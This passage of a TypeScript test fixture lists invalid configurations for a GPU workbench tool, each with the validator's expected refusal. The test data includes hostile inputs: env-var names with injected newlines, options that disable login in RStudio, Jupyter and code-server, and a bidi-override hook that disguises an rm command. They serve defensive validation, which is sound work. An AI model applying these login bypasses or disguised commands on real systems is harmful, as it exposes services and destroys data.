      'workbench.allowedCidrs: "10.0.0.0/17", "10.1.0.0/17", "10.2.0.0/17" are refused while rdp is on (together wider than 65536 IPv4 addresses, a /16): RDP takes passwords; list your own addresses instead',
  },
  {
    why: "RDP with an IPv6 /32",
    raw: rawConfig({ rdp: true, allowedCidrs: ["2001:db8::/32"] }),
    message:
      'workbench.allowedCidrs: "2001:db8::/32" is refused while rdp is on (wider than a /48 of IPv6): RDP takes passwords; list your own addresses instead',
  },
  {
    why: "exposed app with the internet in two /1s",
    raw: app({ kind: "rstudio", expose: true }, { allowedCidrs: ["0.0.0.0/1", "128.0.0.0/1"] }),
    message:
      'workbench.apps[0].expose: refused while allowedCidrs has "0.0.0.0/1", "128.0.0.0/1" (together they cover every IPv4 address): the app takes a password; list your own addresses in allowedCidrs',
  },
  {
    why: "exposed app with both internets",
    raw: app({ kind: "rstudio", expose: true }, { allowedCidrs: ["0.0.0.0/0", "::/0"] }),
    message: 'workbench.apps[0].expose: refused while allowedCidrs has "0.0.0.0/0", "::/0": the app takes a password; list your own addresses in allowedCidrs',
  },
  {
    why: "exposed app with a /12",
    raw: app({ kind: "code-server", expose: true }, { allowedCidrs: ["172.16.0.0/12"] }),
    message:
      'workbench.apps[0].expose: refused while allowedCidrs has "172.16.0.0/12" (wider than 65536 IPv4 addresses, a /16): the app takes a password; list your own addresses in allowedCidrs',
  },
  {
    why: "IPv4-mapped IPv6 range",
    raw: rawConfig({ allowedCidrs: ["::ffff:0:0/96"] }),
    message: 'workbench.allowedCidrs[0]: "::ffff:0:0/96" is an IPv4-mapped IPv6 range; write it as an IPv4 CIDR',
  },
  {
    why: "IPv6 host bits set",
    raw: rawConfig({ allowedCidrs: ["2001:db8::1/64"] }),
    message: 'workbench.allowedCidrs[0]: "2001:db8::1/64" has host bits set; use "2001:db8::/64"',
  },
  {
    why: "same IPv6 CIDR in another case",
    raw: rawConfig({ allowedCidrs: ["2001:db8::/32", "2001:DB8::/32"] }),
    message: 'workbench.allowedCidrs[1]: "2001:DB8::/32" is listed twice; remove one',
  },
  {
    why: "subnet outside the vnet",
    raw: rawConfig({ azure: { vnetCidr: "10.42.0.0/16", subnetCidr: "10.43.1.0/24" } }),
    message: 'workbench.azure.subnetCidr: "10.43.1.0/24" is not inside vnetCidr "10.42.0.0/16"; pick a range within it',
  },
  // 3: env names are identifiers; each kind's auth-weakening names and options are refused.
  {
    why: "env name with = (a second assignment)",
    raw: app({ kind: "rstudio", env: { "A=B": "x" } }),
    message:
      'workbench.apps[0].env["A=B"]: "A=B" is not an environment variable name; use letters, digits and "_", not starting with a digit (an "=" would start the value)',
  },
  {
    why: "env name with a newline",
    raw: app({ kind: "rstudio", env: { "X\nDISABLE_AUTH": "true" } }),
    message:
      'workbench.apps[0].env["X\\nDISABLE_AUTH"]: "X\\nDISABLE_AUTH" is not an environment variable name; use letters, digits and "_", not starting with a digit (an "=" would start the value)',
  },
  {
    why: "env name starting with a digit",
    raw: app({ kind: "rstudio", env: { "1X": "y" } }),
    message:
      'workbench.apps[0].env["1X"]: "1X" is not an environment variable name; use letters, digits and "_", not starting with a digit (an "=" would start the value)',
  },
  {
    why: "RStudio DISABLE_AUTH on an exposed app",
    raw: app({ kind: "rstudio", expose: true, env: { DISABLE_AUTH: "true" } }),
    message:
      "workbench.apps[0].env.DISABLE_AUTH: refused for rstudio: rocker's init turns RStudio's login off when it is true (auth-none); the generated credential is the app's login",
  },
  {
    why: "Jupyter NOTEBOOK_ARGS",
    raw: app({ kind: "jupyter", env: { NOTEBOOK_ARGS: "--IdentityProvider.token=" } }),
    message:
      "workbench.apps[0].env.NOTEBOOK_ARGS: refused for jupyter: start-notebook.py passes it to Jupyter as options, such as --IdentityProvider.token= (no login); set command instead, where options are checked; the generated credential is the app's login",
  },
  {
    why: "Jupyter config directory",
    raw: app({ kind: "jupyter-pytorch", env: { JUPYTER_CONFIG_DIR: "/tmp/x" } }),
    message:
      "workbench.apps[0].env.JUPYTER_CONFIG_DIR: refused for jupyter-pytorch: it points Jupyter at a config directory that can set an empty token or another login; the generated credential is the app's login",
  },
  {
    why: "code-server HASHED_PASSWORD",
    raw: app({ kind: "code-server", env: { HASHED_PASSWORD: "$argon2id$x" } }),
    message:
      "workbench.apps[0].env.HASHED_PASSWORD: refused for code-server: code-server takes it over PASSWORD, so a known hash would replace the generated password; the generated credential is the app's login",
  },
  {
    why: "code-server --auth none",
    raw: app({ kind: "code-server", command: ["--auth", "none"] }),
    message: 'workbench.apps[0].command[0]: "--auth" is refused for code-server: --auth chooses code-server\'s login (--auth none turns it off)',
  },
  {
    why: "Jupyter empty token option",
    raw: app({ kind: "jupyter", command: ["start-notebook.py", "--IdentityProvider.token="] }),
    message:
      'workbench.apps[0].command[1]: "--IdentityProvider.token=" is refused for jupyter: --IdentityProvider.token sets the login token; the generated one must stay the only one (an empty token turns the login off)',
  },
  {
    why: "Kaggle token set by hand",
    raw: app({ kind: "kaggle-python", env: { JUPYTER_TOKEN: "abc" } }),
    message: "workbench.apps[0].env.JUPYTER_TOKEN: set by the workbench (a generated secret); remove it",
  },
  {
    why: "RStudio --auth-none",
    raw: app({ kind: "rstudio-verse", command: ["/usr/lib/rstudio-server/bin/rserver", "--auth-none=1"] }),
    message: 'workbench.apps[0].command[1]: "--auth-none=1" is refused for rstudio-verse: --auth-none turns RStudio\'s login off',
  },
  // 4: names the host already owns as groups (components/config/imageGroups.ts).
  {
    why: "user named like the sudo group",
    raw: rawConfig({ users: [user({ name: "sudo" })] }),
    message:
      "workbench.users[0].name: \"sudo\" is already a group on the host (Ubuntu's or the workbench's; see components/config/imageGroups.ts), so useradd would fail on the VM; pick another name",
  },
  {
    why: "user named like the adm group",
    raw: rawConfig({ users: [user({}), user({ name: "adm", admin: false })] }),
    message:
      "workbench.users[1].name: \"adm\" is already a group on the host (Ubuntu's or the workbench's; see components/config/imageGroups.ts), so useradd would fail on the VM; pick another name",
  },
  {
    why: "user named like the users group",
    raw: rawConfig({ users: [user({ name: "users" })] }),
    message:
      "workbench.users[0].name: \"users\" is already a group on the host (Ubuntu's or the workbench's; see components/config/imageGroups.ts), so useradd would fail on the VM; pick another name",
  },
  {
    why: "user named like the workbench's group",
    raw: rawConfig({ users: [user({ name: "gpu-workbench" })] }),
    message:
      "workbench.users[0].name: \"gpu-workbench\" is already a group on the host (Ubuntu's or the workbench's; see components/config/imageGroups.ts), so useradd would fail on the VM; pick another name",
  },
  {
    why: "user named like the ssl-cert group (RDP)",
    raw: rawConfig({ users: [user({ name: "ssl-cert" })] }),
    message:
      "workbench.users[0].name: \"ssl-cert\" is already a group on the host (Ubuntu's or the workbench's; see components/config/imageGroups.ts), so useradd would fail on the VM; pick another name",
  },
  {
    why: "user named like cloud-init's netdev group",
    raw: rawConfig({ users: [user({ name: "netdev" })] }),
    message:
      "workbench.users[0].name: \"netdev\" is already a group on the host (Ubuntu's or the workbench's; see components/config/imageGroups.ts), so useradd would fail on the VM; pick another name",
  },
  // 8: values (and odd keys) are quoted in messages.
  {
    why: "unknown key with a newline, quoted in the path",
    raw: rawConfig({ "gpu\nCount": 2 }),
    message:
      'workbench["gpu\\nCount"]: unknown key; valid keys are target, size, os, image, spot, pullCache, osDiskGb, dataDiskGb, allowedCidrs, rdp, users, apps, registries, storage, autoShutdown, tags, hostGpu, idleStop, cluster, access, azure, aws, datacenter, ssh',
  },

  ...badBuildConfigs,
  // Issue 22: the workbench's own names are reserved; a root hook line shows what it runs.
  {
    why: "a user named after a mount's group",
    raw: rawConfig({ users: [{ name: "gw-mnt-lake", sshPublicKey: DANIEL_KEY, admin: true }] }),
    message: 'workbench.users[0].name: "gw-mnt-lake" is reserved by the workbench (its gw-* groups and service accounts); pick another name',
  },
  {
    why: "a user named gw-metadata",
    raw: rawConfig({ users: [{ name: "gw-metadata", sshPublicKey: DANIEL_KEY, admin: true }] }),
    message: 'workbench.users[0].name: "gw-metadata" is reserved by the workbench (its gw-* groups and service accounts); pick another name',
  },
  {
    why: "a user named rstudio-server",
    raw: rawConfig({ users: [{ name: "rstudio-server", sshPublicKey: DANIEL_KEY, admin: true }] }),
    message: 'workbench.users[0].name: "rstudio-server" is reserved by the workbench (its gw-* groups and service accounts); pick another name',
  },
  {
    why: "a preStopHook with a bidi override",
    raw: rawConfig({ idleStop: { preStopHook: "echo safe \u202e;hr- mr" } }),
    message:
      'workbench.idleStop.preStopHook: has a line break or another control character; write one command line (join commands with "&&" or ";") or call a script on /data',
  },
  {
    why: "a cluster on softlayer",
    raw: { target: "softlayer", datacenter: "dal10", allowedCidrs: ["198.51.100.7/32"], users: [user({})], cluster: { workers: 2 } },
    message:
      "workbench.cluster: not available for target softlayer in this version: its guests have no machine identity to read a data lake with and no idle stop to bound the cost of the workers; remove cluster (or use target azure or aws)",
  },
  {
    why: "a cluster on ssh",
    raw: ssh({ ssh: { host: "gpu1.lab.example.com", hostPublicKey: HOST_KEY }, cluster: { workers: 2 } }),
    message:
      "workbench.cluster: not available for target ssh: the workbench does not create hosts there, so it has no workers to add or a private network to put them in; remove cluster (or use target azure or aws)",
  },
  {
    why: "a cluster on local",
    raw: local({ cluster: {} }),
    message: "workbench.cluster: not available for target local: one machine has no workers to add; remove cluster (or use target azure or aws)",
  },
  { why: "a cluster of no workers", raw: spark({ workers: 0 }), message: "workbench.cluster.workers: 0 is out of range; use 1-16" },
  { why: "a cluster of 17 workers", raw: spark({ workers: 17 }), message: "workbench.cluster.workers: 17 is out of range; use 1-16" },
  { why: "a worker count as text", raw: spark({ workers: "3" }), message: 'workbench.cluster.workers: expected a whole number, got "3"' },
  {
    why: "a worker size the catalog lacks",
    raw: spark({ size: "g4dn.xlarg" }),
    message: 'workbench.cluster.size: "g4dn.xlarg" is not a size this version knows for target aws; closest: g4dn.xlarge, g4dn.2xlarge, g4dn.4xlarge',
  },
  {
    why: "RAPIDS on CPU workers",
    raw: spark({ size: "m6i.xlarge", rapids: true }),
    message: "workbench.cluster.rapids: the RAPIDS accelerator runs on GPUs and m6i.xlarge has none; pick a GPU size in cluster.size or remove rapids",
  },
  { why: "an engine that is not spark", raw: spark({ engine: "ray" }), message: 'workbench.cluster.engine: "ray" is not one of spark; use spark' },
  {
    why: "a cluster without its driver app",
    raw: aws({ aws: WORKER_SUBNET, cluster: { workers: 2 } }),
    message: "workbench.cluster: needs a jupyter-pyspark app on the head: it is the cluster's driver; add { kind: jupyter-pyspark } to apps",
  },
  {
    why: "a cluster with access: private",
    raw: aws({
      allowedCidrs: undefined,
      access: "private",
      aws: { subnetId: "subnet-0123456789abcdef0", ...WORKER_SUBNET },
      apps: [{ kind: "jupyter-pyspark" }],
      cluster: { workers: 2 },
    }),
    message:
      "workbench.cluster: not with access: private in this version: the workers are reached through the head's SSH; use access: public or remove cluster",
  },
  {
    why: "a cluster with autoShutdown",
    raw: spark({ workers: 2 }, { autoShutdown: { time: "19:00", timeZone: "Korea Standard Time" } }),
    message: "workbench.autoShutdown: does not stop the cluster's workers in this version; use idleStop (it stops the workers first) or remove cluster",
  },
  {
    why: "a cluster on azure in an existing subnet",
    raw: azureSpark({
      azure: {
        subnetId: "/subscriptions/00000000-0000-4000-8000-000000000000/resourceGroups/rg/providers/Microsoft.Network/virtualNetworks/vnet/subnets/default",
      },
    }),
    message:
      "workbench.azure.subnetId: not available with cluster in this version: the workers' subnet and its NAT gateway go into the network the workbench creates; remove subnetId (and set vnetCidr/subnetCidr/workerSubnetCidr if 10.42.0.0/16 collides)",
  },
  {
    why: "an azure workers' subnet without a cluster",
    raw: rawConfig({ azure: { workerSubnetCidr: "10.42.3.0/24" } }),
    message: "workbench.azure.workerSubnetCidr: only with cluster (a workbench without one has no workers); remove it",
  },
  {
    why: "an azure workers' subnet outside the VNet",
    raw: azureSpark({ azure: { workerSubnetCidr: "10.43.3.0/24" } }),
    message: 'workbench.azure.workerSubnetCidr: "10.43.3.0/24" is not inside vnetCidr "10.42.0.0/16"; pick a range within it',
  },
  {
    why: "an azure workers' subnet over the head's",
    raw: azureSpark({ azure: { workerSubnetCidr: "10.42.0.0/20" } }),
    message: 'workbench.azure.workerSubnetCidr: "10.42.0.0/20" overlaps subnetCidr "10.42.1.0/24"; pick a range apart from it',
  },
  {
    why: "an azure workers' subnet of IPv6",
    raw: azureSpark({ azure: { workerSubnetCidr: "fd00::/64" } }),
    message: 'workbench.azure.workerSubnetCidr: "fd00::/64" is not an IPv4 range; the workers\' subnet is IPv4, e.g. 10.42.3.0/24',
  },
  {
    why: "an azure workers' subnet that is not a range",
    raw: azureSpark({ azure: { workerSubnetCidr: "10.42.3.0/33" } }),
    message: 'workbench.azure.workerSubnetCidr: "10.42.3.0/33" is not a CIDR (expected e.g. "203.0.113.7/32")',
  },
  {
    why: "a cluster on aws without the workers' subnet",
    raw: aws({ apps: [{ kind: "jupyter-pyspark" }], cluster: { workers: 2 } }),
    message:
      "workbench.aws.workerSubnetId: required with cluster: the workers have no public address, so they reach the internet (packages, images, Maven Central) only through a NAT; give a private subnet in the head's VPC whose route table has a NAT gateway",
  },
  { why: "a worker subnet without a cluster", raw: aws({ aws: WORKER_SUBNET }), message: "workbench.aws.workerSubnetId: only with cluster; remove it" },
  {
    why: "an unknown cluster key",
    raw: spark({ nodes: 3 }),
    message: "workbench.cluster.nodes: unknown key; valid keys are engine, workers, size, rapids",
  },
  {
    why: "a SoftLayer tag replacing the workbench's own",
    raw: { target: "softlayer", datacenter: "dal10", allowedCidrs: ["198.51.100.7/32"], users: [user({})], tags: { "gpu-workbench": "other" } },
    message: 'workbench.tags.gpu-workbench: tag name: "gpu-workbench" is set by the workbench itself; use another tag name',
  },
  {
    why: "a SoftLayer tag with a comma",
    raw: { target: "softlayer", datacenter: "dal10", allowedCidrs: ["198.51.100.7/32"], users: [user({})], tags: { team: "lab,owner:eve" } },
    message: 'workbench.tags.team: contains ",", which splits a SoftLayer tag in two; remove it',
  },
];

/** The region each target's provider config would hold, unless the case says otherwise. */
export function regionFor(c: BadConfig): string | undefined {
  if (c.region !== undefined) return c.region || undefined;
  const target = (c.raw as { target?: string } | undefined)?.target;
  return target === "aws" ? "ap-northeast-2" : target === "azure" ? "koreacentral" : undefined;
}
